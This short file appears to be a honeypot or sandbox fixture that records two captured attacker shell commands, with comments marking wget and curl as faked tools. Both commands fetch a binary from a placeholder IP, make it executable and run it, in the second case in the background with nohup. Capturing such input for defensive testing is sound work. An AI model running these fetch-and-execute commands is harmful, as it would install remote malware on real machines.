# SPDX-License-Identifier: Apache-2.0
# hits: 2
# fake: /usr/bin/wget /usr/bin/curl
sh -c 'cd /tmp || cd /var/run || cd /mnt; wget -q http://192.0.2.7/bins/x86; chmod 777 x86; ./x86 ssh'
bash -c 'curl -s -o /var/tmp/a http://192.0.2.7/a && chmod +x /var/tmp/a && nohup /var/tmp/a &'
